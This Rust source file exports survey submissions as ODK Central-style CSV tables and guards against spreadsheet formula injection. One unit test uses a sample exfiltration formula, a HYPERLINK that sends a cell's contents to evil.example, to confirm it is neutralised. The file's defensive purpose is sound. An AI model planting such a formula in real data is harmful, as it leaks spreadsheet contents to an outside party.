//! CSV as ODK Central lays it out: one table for the form with a `KEY` column, one per repeat
//! joined by `PARENT_KEY` and `KEY` (`uuid:…/household[1]`), group paths in headers
//! (`group-question`), a select_multiple as space-separated names plus one 0/1 column per
//! option, a geopoint as four columns, dates in ISO 8601. Besides ODK's own columns around the
//! answers, `Status` (draft or complete) and, after `ReviewState`, `ReviewComment`: the
//! review's comments on the whole submission, one per line.
//!
//! Files begin with a UTF-8 byte-order mark ([`BYTE_ORDER_MARK`]): without it Excel reads a
//! CSV in the machine's locale code page, and in a Spanish locale "Política" shows as
//! "PolÃ­tica". pandas, R and Python's `utf-8-sig` skip the mark.
//!
//! Formulas: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a
//! tab or a carriage return) as a formula, and a formula such as `HYPERLINK` can send the
//! sheet's contents away when clicked. As OWASP advises against CSV injection, every text cell
//! that begins with one of these six is written with a `'` in front (`'=HYPERLINK(…)`), which
//! spreadsheets show as text and people can still read; quoting is then applied as usual.
//! Text cells are answers of text, select and file questions (names or labels), the headers
//! and the submitter and version columns. Numbers, dates and geopoint parts are never
//! prefixed, so a longitude of `-78.5` reads back as a number. A geopoint that is no place on
//! Earth (`GeoPoint::check` refuses it) leaves its four cells empty; its row stays.

use super::{iso_time, CsvOptions, ExportSubmission};
use minga_forms::{AnswerKeys, Answers, Choice, Form, Item, QuestionType, Value};
use serde_json::{json, Value as Json};
use std::borrow::Cow;

/// What every CSV file begins with, so that spreadsheets read it as UTF-8.
pub const BYTE_ORDER_MARK: &str = "\u{feff}";

/// One table's worth of data: a CSV file, or a sheet of the workbook.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    /// The file stem: the form id, or `formid-repeatname` for a repeat.
    pub name: String,
    pub header: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// One cell: what it holds decides how each format writes it.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Text a person typed or chose (answers, names, versions, headers): a CSV guards it
    /// against formulas, a workbook stores it as a string (which never runs).
    Text(String),
    /// A number as the CSV writes it (integers, decimals, geopoint parts, 0/1 options).
    Number(String),
    /// Text Minga wrote itself (dates, keys, states), which no spreadsheet runs.
    Plain(String),
}

impl Cell {
    /// The cell as it was, with no formula guard.
    pub fn text(&self) -> &str {
        match self {
            Cell::Text(text) | Cell::Number(text) | Cell::Plain(text) => text,
        }
    }

    /// The cell as a CSV writes it: a text that begins with a formula character gets a `'`
    /// in front (OWASP's advice).
    pub fn csv_text(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(text) => guarded(text),
            Cell::Number(text) | Cell::Plain(text) => Cow::Borrowed(text),
        }
    }
}

impl Table {
    /// The table as RFC 4180 CSV text.
    pub fn to_csv(&self) -> String {
        let mut out = String::new();
        let header = self.header.iter().map(|h| guarded(h));
        let rows = self
            .rows
            .iter()
            .map(|row| row.iter().map(Cell::csv_text).collect());
        for line in std::iter::once(header.collect::<Vec<_>>()).chain(rows) {
            let fields: Vec<Cow<'_, str>> = line.iter().map(|f| quote(f)).collect();
            out.push_str(&fields.join(","));
            out.push_str("\r\n");
        }
        out
    }
}

/// A text as a spreadsheet may read it safely: with a `'` in front when it begins with a
/// character that makes a formula (OWASP's list).
fn guarded(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Quotes a field when it holds a comma, a quote or a line break.
fn quote(field: &str) -> Cow<'_, str> {
    if field.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", field.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(field)
    }
}

/// Which part of a question's answer a column shows.
#[derive(Debug, Clone, PartialEq)]
enum Part {
    Whole,
    /// One of a geopoint's four columns: 0 latitude, 1 longitude, 2 altitude, 3 accuracy.
    Geo(usize),
    /// The 0/1 column of one option of a select_multiple.
    Option(String),
}

#[derive(Debug, Clone, PartialEq)]
struct Column {
    header: String,
    /// The key the question's answers are stored under ([`AnswerKeys`]).
    question: String,
    part: Part,
    /// The choice list, for selects (to show labels).
    list: Option<String>,
}

/// A table's plan: its columns, and for a repeat its name, its XML path below the parent
/// instance (groups included, as ODK keys are) and its parent table.
#[derive(Debug, Clone)]
struct Plan {
    name: String,
    repeat: Option<String>,
    key_path: String,
    parent: Option<usize>,
    columns: Vec<Column>,
}

const GEO_PARTS: [&str; 4] = ["Latitude", "Longitude", "Altitude", "Accuracy"];

fn joined(prefix: &str, separator: &str, name: &str) -> String {
    if prefix.is_empty() {
        name.to_string()
    } else {
        format!("{prefix}{separator}{name}")
    }
}

/// Where the walk is: the form's answer keys and the names of the groups and repeats around.
struct Within<'a> {
    keys: &'a AnswerKeys,
    parents: Vec<&'a str>,
}

impl<'a> Within<'a> {
    /// The key `name`'s answers are stored under here (its name, or its path when the name
    /// is used in several groups).
    fn key(&self, name: &str) -> String {
        self.keys.key(&self.parents, name)
    }

    fn inside(&self, name: &'a str) -> Within<'a> {
        let mut parents = self.parents.clone();
        parents.push(name);
        Within {
            keys: self.keys,
            parents,
        }
    }
}

/// Walks the survey, adding columns to table `table` and a new table for each repeat.
fn plan_items<'a>(
    form: &Form,
    items: &'a [Item],
    within: &Within<'a>,
    header_prefix: &str,
    xml_prefix: &str,
    table: usize,
    plans: &mut Vec<Plan>,
) {
    for item in items {
        match item {
            Item::Question(q) => {
                let header = joined(header_prefix, "-", &q.name);
                plans[table].columns.extend(question_columns(
                    form,
                    &within.key(&q.name),
                    &q.kind,
                    &header,
                ));
            }
            Item::Group(group) => plan_items(
                form,
                &group.children,
                &within.inside(&group.name),
                &joined(header_prefix, "-", &group.name),
                &joined(xml_prefix, "/", &group.name),
                table,
                plans,
            ),
            Item::Repeat(repeat) => {
                plans.push(Plan {
                    name: format!("{}-{}", form.id, repeat.name),
                    repeat: Some(within.key(&repeat.name)),
                    key_path: joined(xml_prefix, "/", &repeat.name),
                    parent: Some(table),
                    columns: Vec::new(),
                });
                let child = plans.len() - 1;
                let inside = within.inside(&repeat.name);
                plan_items(form, &repeat.children, &inside, "", "", child, plans);
            }
        }
    }
}

/// The columns of the question whose answers are stored under `key`.
fn question_columns(form: &Form, key: &str, kind: &QuestionType, header: &str) -> Vec<Column> {
    let column = |header: String, part: Part, list: Option<&String>| Column {
        header,
        question: key.to_string(),
        part,
        list: list.cloned(),
    };
    match kind {
        QuestionType::Note => vec![],
        QuestionType::GeoPoint => GEO_PARTS
            .iter()
            .enumerate()
            .map(|(i, part)| column(format!("{header}-{part}"), Part::Geo(i), None))
            .collect(),
        QuestionType::SelectMultiple(list) => {
            let options = form
                .choices
                .get(list)
                .map(Vec::as_slice)
                .unwrap_or_default();
            std::iter::once(column(header.to_string(), Part::Whole, Some(list)))
                .chain(options.iter().map(|c| {
                    column(
                        format!("{header}/{}", c.name),
                        Part::Option(c.name.clone()),
                        Some(list),
                    )
                }))
                .collect()
        }
        QuestionType::SelectOne(list) => vec![column(header.to_string(), Part::Whole, Some(list))],
        _ => vec![column(header.to_string(), Part::Whole, None)],
    }
}

fn plans(form: &Form) -> Vec<Plan> {
    let mut plans = vec![Plan {
        name: form.id.clone(),
        repeat: None,
        key_path: String::new(),
        parent: None,
        columns: Vec::new(),
    }];
    let keys = AnswerKeys::of(form);
    let top = Within {
        keys: &keys,
        parents: Vec::new(),
    };
    plan_items(form, &form.survey, &top, "", "", 0, &mut plans);
    plans
}

/// Formats one answer for one column.
fn cell(form: &Form, column: &Column, value: Option<&Value>, options: &CsvOptions) -> Cell {
    let Some(value) = value else {
        return Cell::Plain(String::new());
    };
    let label = |name: &str| -> String {
        let choice = column
            .list
            .as_ref()
            .and_then(|l| form.choices.get(l))
            .and_then(|cs| cs.iter().find(|c| c.name == name));
        match (&options.labels_in, choice) {
            (Some(lang), Some(Choice { label, .. })) => label
                .get(Some(lang), form.default_language.as_deref())
                .unwrap_or(name)
                .to_string(),
            _ => name.to_string(),
        }
    };
    match (&column.part, value) {
        (Part::Geo(_), Value::GeoPoint(p)) if p.check().is_err() => Cell::Plain(String::new()),
        (Part::Geo(i), Value::GeoPoint(p)) => {
            match [Some(p.latitude), Some(p.longitude), p.altitude, p.accuracy][*i] {
                Some(x) => Cell::Number(x.to_string()),
                None => Cell::Plain(String::new()),
            }
        }
        (Part::Option(name), Value::Choices(chosen)) => {
            Cell::Number(if chosen.contains(name) { "1" } else { "0" }.to_string())
        }
        (Part::Whole, Value::Choices(chosen)) => {
            let separator = if options.labels_in.is_some() {
                "; "
            } else {
                " "
            };
            Cell::Text(
                ordered_choices(form, column, chosen)
                    .iter()
                    .map(|n| label(n))
                    .collect::<Vec<_>>()
                    .join(separator),
            )
        }
        (Part::Whole, Value::Choice(name)) => Cell::Text(label(name)),
        (Part::Whole, Value::Text(text)) => Cell::Text(text.clone()),
        (Part::Whole, Value::Integer(n)) => Cell::Number(n.to_string()),
        (Part::Whole, Value::Decimal(x)) => Cell::Number(x.to_string()),
        (Part::Whole, Value::Date(d)) => Cell::Plain(d.format("%Y-%m-%d").to_string()),
        (Part::Whole, Value::Time(t)) => Cell::Plain(t.format("%H:%M:%S%.3f").to_string()),
        (Part::Whole, Value::DateTime(t)) => {
            Cell::Plain(t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true))
        }
        // The file's name in the export's `media/` folder, as ODK Central's export names it.
        (Part::Whole, Value::Attachment(file)) => Cell::Text(super::media_file_name(file)),
        // A value of another type than the column expects (the form changed): show it whole,
        // as the JSON text it is.
        (_, other) => Cell::Text(super::plain_value(other).to_string()),
    }
}

/// The form table's answer columns, planned once, for writers that want each answer typed
/// rather than as CSV text (GeoJSON's flat properties).
pub struct AnswerColumns {
    plan: Plan,
}

impl AnswerColumns {
    /// The form table's answer columns (not the repeats'). Cost: one walk of the form.
    pub fn of(form: &Form) -> Self {
        let plan = plans(form).swap_remove(0);
        AnswerColumns { plan }
    }

    /// `answers` by the CSV's headers, typed: numbers, geopoint parts and 0/1 option columns
    /// as numbers, everything else as the CSV's text without its formula prefix (a GeoJSON
    /// reader runs no formula), no answer as `null`.
    pub fn typed(&self, form: &Form, answers: &Answers) -> Vec<(String, Json)> {
        let names = CsvOptions::default();
        self.plan
            .columns
            .iter()
            .map(|column| {
                let value = answers.value(&column.question);
                let typed = match (&column.part, value) {
                    (_, None) => Json::Null,
                    (Part::Whole, Some(Value::Integer(n))) => json!(n),
                    // A decimal that is no number (NaN) is null, as JSON has no NaN.
                    (Part::Whole, Some(Value::Decimal(x))) => json!(x),
                    (Part::Whole, Some(Value::Text(text) | Value::Choice(text))) => json!(text),
                    (Part::Whole, Some(_)) => json!(cell(form, column, value, &names).text()),
                    (Part::Geo(_) | Part::Option(_), Some(_)) => {
                        number(cell(form, column, value, &names).text())
                    }
                };
                (column.header.clone(), typed)
            })
            .collect()
    }
}

/// A geopoint part's or an option's cell as a JSON number; an empty cell (a point that is no
/// place) is null, and a value of another type than the column expects stays text.
fn number(text: &str) -> Json {
    if text.is_empty() {
        return Json::Null;
    }
    match (text.parse::<i64>(), text.parse::<f64>()) {
        (Ok(n), _) => json!(n),
        (_, Ok(x)) => json!(x),
        _ => json!(text),
    }
}

/// The chosen options in the form's choice order (then any unknown ones), as ODK lists them.
fn ordered_choices<'a>(
    form: &'a Form,
    column: &Column,
    chosen: &'a std::collections::BTreeSet<String>,
) -> Vec<&'a str> {
    let listed: Vec<&str> = column
        .list
        .as_ref()
        .and_then(|l| form.choices.get(l))
        .map(|cs| {
            cs.iter()
                .map(|c| c.name.as_str())
                .filter(|n| chosen.contains(*n))
                .collect()
        })
        .unwrap_or_default();
    let unknown = chosen
        .iter()
        .map(String::as_str)
        .filter(|n| !listed.contains(n));
    listed.iter().copied().chain(unknown).collect()
}

fn answer_cells(form: &Form, plan: &Plan, answers: &Answers, options: &CsvOptions) -> Vec<Cell> {
    plan.columns
        .iter()
        .map(|c| cell(form, c, answers.value(&c.question), options))
        .collect()
}

/// Adds the rows of every repeat table below `table` for one instance's answers.
fn emit_repeats(
    form: &Form,
    plans: &[Plan],
    table: usize,
    answers: &Answers,
    key: &str,
    options: &CsvOptions,
    out: &mut [Table],
) {
    for (child, plan) in plans
        .iter()
        .enumerate()
        .filter(|(_, p)| p.parent == Some(table))
    {
        let Some(repeat) = &plan.repeat else { continue };
        for (n, instance) in answers.instances(repeat).iter().enumerate() {
            let instance_key = format!("{key}/{}[{}]", plan.key_path, n + 1);
            let mut row = answer_cells(form, plan, &instance.answers, options);
            row.extend([
                Cell::Plain(key.to_string()),
                Cell::Plain(instance_key.clone()),
            ]);
            out[child].rows.push(row);
            emit_repeats(
                form,
                plans,
                child,
                &instance.answers,
                &instance_key,
                options,
                out,
            );
        }
    }
}

/// The columns ODK Central puts around a submission's answers.
const LEADING: [&str; 1] = ["SubmissionDate"];
const TRAILING: [&str; 9] = [
    "meta-instanceID",
    "SubmitterID",
    "SubmitterName",
    "Status",
    "ReviewState",
    "ReviewComment",
    "FormVersion",
    "UpdatedAt",
    "KEY",
];

/// Every table of the export: the form's first, then one per repeat in form order.
pub fn tables(form: &Form, submissions: &[ExportSubmission], options: &CsvOptions) -> Vec<Table> {
    let plans = plans(form);
    let mut out: Vec<Table> = plans
        .iter()
        .map(|plan| {
            let answers = plan.columns.iter().map(|c| c.header.clone());
            let header: Vec<String> = if plan.parent.is_none() {
                LEADING
                    .iter()
                    .map(|h| h.to_string())
                    .chain(answers)
                    .chain(TRAILING.iter().map(|h| h.to_string()))
                    .collect()
            } else {
                answers
                    .chain(["PARENT_KEY".to_string(), "KEY".to_string()])
                    .collect()
            };
            Table {
                name: plan.name.clone(),
                header,
                rows: Vec::new(),
            }
        })
        .collect();
    for submission in submissions {
        let key = submission.key();
        let mut row = vec![Cell::Plain(iso_time(&submission.created_at))];
        row.extend(answer_cells(form, &plans[0], &submission.answers, options));
        row.extend([
            Cell::Plain(key.clone()),
            Cell::Text(submission.author.clone()),
            Cell::Text(submission.author_name.clone()),
            Cell::Plain(submission.status.as_str().to_string()),
            Cell::Plain(
                submission
                    .review_state
                    .map(|state| state.as_str().to_string())
                    .unwrap_or_default(),
            ),
            Cell::Text(submission.review_comments.join("\n")),
            Cell::Text(submission.form_version.clone()),
            Cell::Plain(iso_time(&submission.updated_at)),
            Cell::Plain(key.clone()),
        ]);
        out[0].rows.push(row);
        emit_repeats(
            form,
            &plans,
            0,
            &submission.answers,
            &key,
            options,
            &mut out,
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::export::fixtures;
    use minga_forms::GeoPoint;

    /// A column's cells as the CSV writes them.
    fn column(table: &Table, header: &str) -> Vec<String> {
        let i = table
            .header
            .iter()
            .position(|h| h == header)
            .unwrap_or_else(|| panic!("no column {header}"));
        table
            .rows
            .iter()
            .map(|row| row[i].csv_text().into_owned())
            .collect()
    }

    #[test]
    fn a_name_used_in_two_groups_gets_each_groups_answer_in_its_own_column() {
        let form = fixtures::one_name_in_groups(&["site", "owner"], "name", "text");
        let mut submission = fixtures::submissions().remove(1);
        submission.answers = Answers::default();
        for (key, text) in [
            ("site/name", "Escuela Río Verde"),
            ("owner/name", "Parroquia"),
        ] {
            let value = minga_forms::Answer::Value(Value::Text(text.into()));
            submission.answers.fields.insert(key.into(), value);
        }
        let main = &tables(&form, &[submission], &CsvOptions::default())[0];
        assert_eq!(column(main, "site-name"), ["Escuela Río Verde"]);
        assert_eq!(column(main, "owner-name"), ["Parroquia"]);
    }

    #[test]
    fn the_form_table_has_odk_headers_in_form_order_with_key_last() {
        let tables = tables(
            &fixtures::form(),
            &fixtures::submissions(),
            &CsvOptions::default(),
        );
        assert_eq!(
            tables.iter().map(|t| t.name.as_str()).collect::<Vec<_>>(),
            ["safety_walk", "safety_walk-household"]
        );
        let main = &tables[0];
        assert_eq!(
            main.header[..14],
            [
                "SubmissionDate",
                "start",
                "who-respondent",
                "who-age",
                "who-visit_date",
                "location-Latitude",
                "location-Longitude",
                "location-Altitude",
                "location-Accuracy",
                "concerns",
                "concerns/theft",
                "concerns/extortion",
                "concerns/gangs",
                "feels_safe"
            ]
        );
        assert_eq!(main.header.last().map(String::as_str), Some("KEY"));
        assert!(
            !main.header.iter().any(|h| h.contains("note_intro")),
            "notes hold no data"
        );
        assert_eq!(main.rows.len(), 2);
        assert_eq!(
            column(main, "KEY"),
            [
                "uuid:0b6f3a52-0000-4000-8000-000000000001",
                "uuid:0b6f3a52-0000-4000-8000-000000000002"
            ]
        );
    }

    #[test]
    fn values_are_formatted_as_analysts_expect() {
        let main = &tables(
            &fixtures::form(),
            &fixtures::submissions(),
            &CsvOptions::default(),
        )[0];
        assert_eq!(
            column(main, "SubmissionDate")[0],
            "2026-11-03T15:04:05.000Z"
        );
        assert_eq!(column(main, "who-visit_date"), ["2026-11-03", ""]);
        assert_eq!(column(main, "who-age"), ["47", ""]);
        assert_eq!(
            column(main, "concerns"),
            ["theft gangs", ""],
            "names in the form's choice order"
        );
        assert_eq!(column(main, "concerns/theft"), ["1", ""]);
        assert_eq!(column(main, "concerns/extortion"), ["0", ""]);
        assert_eq!(column(main, "location-Latitude"), ["-0.2299", ""]);
        assert_eq!(column(main, "location-Accuracy"), ["4.5", ""]);
        assert_eq!(column(main, "ReviewState"), ["approved", ""]);
        assert_eq!(column(main, "Status"), ["complete", "draft"]);
        assert_eq!(column(main, "ReviewComment"), ["Revisar la edad", ""]);
    }

    #[test]
    fn repeats_get_their_own_table_joined_by_keys() {
        let repeat = &tables(
            &fixtures::form(),
            &fixtures::submissions(),
            &CsvOptions::default(),
        )[1];
        assert_eq!(
            repeat.header,
            [
                "member_name",
                "member_details-member_role",
                "PARENT_KEY",
                "KEY"
            ]
        );
        let parent = "uuid:0b6f3a52-0000-4000-8000-000000000001";
        assert_eq!(column(repeat, "PARENT_KEY"), [parent, parent]);
        assert_eq!(
            column(repeat, "KEY"),
            [
                format!("{parent}/household[1]"),
                format!("{parent}/household[2]")
            ]
        );
        assert_eq!(column(repeat, "member_name"), ["Rosa", "Luis"]);
    }

    #[test]
    fn labels_replace_names_when_asked() {
        let options = CsvOptions {
            labels_in: Some("Español (es)".into()),
            ..CsvOptions::default()
        };
        let main = &tables(&fixtures::form(), &fixtures::submissions(), &options)[0];
        assert_eq!(column(main, "concerns")[0], "Robo; Pandillas");
        assert_eq!(
            column(main, "feels_safe")[0],
            "No",
            "falls back to the default language"
        );
    }

    #[test]
    fn csv_text_quotes_commas_and_quotes() {
        let csv = tables(
            &fixtures::form(),
            &fixtures::submissions(),
            &CsvOptions::default(),
        )[0]
        .to_csv();
        assert!(csv.contains(",\"Rosa, \"\"la tía\"\"\","), "{csv}");
        assert_eq!(csv.lines().count(), 3);
    }

    fn set(submission: &mut ExportSubmission, name: &str, value: Value) {
        submission
            .answers
            .fields
            .insert(name.into(), minga_forms::Answer::Value(value));
    }

    #[test]
    fn text_cells_that_a_spreadsheet_would_run_get_a_leading_quote() {
        let mut submissions = fixtures::submissions();
        let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
        set(
            &mut submissions[0],
            "respondent",
            Value::Text(formula.into()),
        );
        set(
            &mut submissions[0],
            "feels_safe",
            Value::Choice("@SUM(1)".into()),
        );
        submissions[0].author_name = "-Ana".into();
        submissions[0].form_version = "+1".into();
        for (n, start) in ["\tx", "\rx"].into_iter().enumerate() {
            let mut more = submissions[1].clone();
            more.id = format!("0b6f3a52-0000-4000-8000-00000000001{n}");
            set(&mut more, "respondent", Value::Text(start.into()));
            submissions.push(more);
        }
        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
        assert_eq!(
            column(main, "who-respondent"),
            [
                format!("'{formula}"),
                "Pedro".into(),
                "'\tx".into(),
                "'\rx".into()
            ]
        );
        assert_eq!(column(main, "feels_safe")[0], "'@SUM(1)", "a choice name");
        assert_eq!(column(main, "SubmitterName")[0], "'-Ana");
        assert_eq!(column(main, "FormVersion")[0], "'+1");
        let csv = main.to_csv();
        assert!(
            csv.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\","),
            "quoted as usual after the prefix: {csv}"
        );
    }

    #[test]
    fn choice_labels_are_neutralised_too() {
        let form =
            fixtures::form_replacing("\"English (en)\": \"No\"", "\"English (en)\": \"=1+1\"");
        let options = CsvOptions {
            labels_in: Some("English (en)".into()),
            ..CsvOptions::default()
        };
        let main = &tables(&form, &fixtures::submissions(), &options)[0];
        assert_eq!(column(main, "feels_safe")[0], "'=1+1");
    }

    #[test]
    fn numbers_dates_and_geopoint_parts_are_never_prefixed() {
        let mut submissions = fixtures::submissions();
        set(&mut submissions[0], "age", Value::Integer(-5));
        set(
            &mut submissions[0],
            "location",
            Value::GeoPoint(GeoPoint {
                latitude: -0.25,
                longitude: -78.5,
                altitude: Some(-12.0),
                accuracy: Some(3.0),
            }),
        );
        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
        assert_eq!(column(main, "who-age")[0], "-5");
        assert_eq!(column(main, "location-Latitude")[0], "-0.25");
        assert_eq!(column(main, "location-Longitude")[0], "-78.5");
        assert_eq!(column(main, "location-Altitude")[0], "-12");
        assert!(main.to_csv().contains(",-0.25,-78.5,-12,3,"));
    }

    #[test]
    fn a_point_that_is_no_place_keeps_its_row_with_empty_geopoint_cells() {
        let submissions = fixtures::impossibly_located();
        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
        assert_eq!(main.rows.len(), submissions.len(), "every row stays");
        for part in ["Latitude", "Longitude", "Altitude", "Accuracy"] {
            let cells = column(main, &format!("location-{part}"));
            assert!(cells.iter().all(|c| c.is_empty()), "{part}: {cells:?}");
        }
        assert!(column(main, "who-respondent")
            .iter()
            .all(|r| r.starts_with("Rosa")));
    }
}
